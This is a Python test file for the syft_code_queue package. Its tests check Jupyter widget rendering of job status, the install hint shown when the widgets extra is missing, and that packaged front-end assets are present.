def test_a_job_of_the_data_scientist_shows_as_its_live_status_cell(
    ds: scq.CodeQueueClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from syft_code_queue import models

    job = submit(ds, tmp_path)
    assert set(job._repr_mimebundle_()) == {"text/plain", "text/html"}  # outside a kernel
    monkeypatch.setattr(models, "_in_live_kernel", lambda: True)
    shown = []
    for each in (job, ds.get_job(job.uid), ds.list_jobs()[0]):
        bundle = each._repr_mimebundle_()
        assert "application/vnd.jupyter.widget-view+json" in bundle
        shown.append(bundle["application/vnd.jupyter.widget-view+json"]["model_id"])
    from ipywidgets.widgets.widget import _instances

    for model_id in shown:
        widget = _instances[model_id]
        assert widget.uid == str(job.uid)
        widget.close()
    assert ds.get_job(job.uid) == job


def test_without_the_widgets_extra_the_error_says_what_to_install(
    do: scq.CodeQueueServer, ds: scq.CodeQueueClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in list(sys.modules):
        if name.startswith("syft_code_queue.widgets"):
            monkeypatch.delitem(sys.modules, name)
    monkeypatch.setitem(sys.modules, "anywidget", None)  # as if it were not installed
    for make in (do.review_widget, ds.status_widget):
        with pytest.raises(scq.WidgetsNotInstalledError, match=r"syft-code-queue\[widgets\]"):
            make()


@pytest.mark.parametrize("name", ["widgets.js", "widgets.css", "templates/jobs_table.html"])
def test_front_end_files_ship_with_the_package(name: str) -> None:
    from syft_code_queue.assets import asset

    assert asset(name).is_file()
